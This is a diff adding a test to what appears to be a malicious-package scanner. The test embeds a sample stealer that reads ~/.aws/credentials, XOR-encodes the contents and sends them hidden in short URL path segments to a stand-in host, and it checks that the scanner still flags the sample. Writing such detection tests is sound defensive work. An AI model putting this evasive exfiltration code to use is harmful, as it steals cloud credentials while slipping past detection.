@@ -182,3 +182,31 @@ def test_a_secret_split_over_an_ordinary_get_is_proven(tmp_path: Path) -> None:
     )
     ps010 = next(f for f in report.findings if f.rule_id == "PS010")
     assert ps010.severity is Severity.CRITICAL and report.verdict is Verdict.MALICIOUS
+
+
+def test_a_sealed_secret_in_short_path_segments_is_malicious(tmp_path: Path) -> None:
+    """A stealer that reads ~/.aws/credentials, XORs it with its own key (no canary
+    encoding finds it), and sends its hex cut into 15-character segments (none
+    encoded-looking) in an ordinary GET to a name its resolver answered, ignoring the
+    answer. Failed on main: accounted, fed the bait, every finding LOW, the run clean."""
+    r = Randomised()
+    host, key = _host(r), r.name("k")
+    src = textwrap.dedent(f"""\
+        import json, os, urllib.request
+        facts = {{}}
+        raw = open(os.path.expanduser("~/.aws/credentials"), "rb").read()[:80]
+        blob = bytes(b ^ {key!r}.encode()[i % {len(key)}] for i, b in enumerate(raw)).hex()
+        path = "/".join(blob[i:i + 15] for i in range(0, len(blob), 15))
+        try:
+            facts["bytes"] = len(urllib.request.urlopen("http://{host}/assets/" + path, timeout=10).read())
+        except Exception as exc:
+            facts["bytes"] = type(exc).__name__
+        print("FACTS " + json.dumps(facts))
+        """)
+    report, facts = _vet(tmp_path, r.name("sync"), src)
+    assert isinstance(facts["bytes"], int), facts
+    net = report.network
+    assert net is not None and not net.exfiltration, net.exfiltration  # nothing proves it
+    sev = {f.rule_id: f.severity for f in report.findings if f.phase is Phase.IMPORT}
+    assert sev.get("PS001") is Severity.HIGH and sev.get("PS002") is Severity.HIGH, sev
+    assert report.verdict is Verdict.MALICIOUS, [(f.rule_id, f.severity, f.message) for f in report.findings]
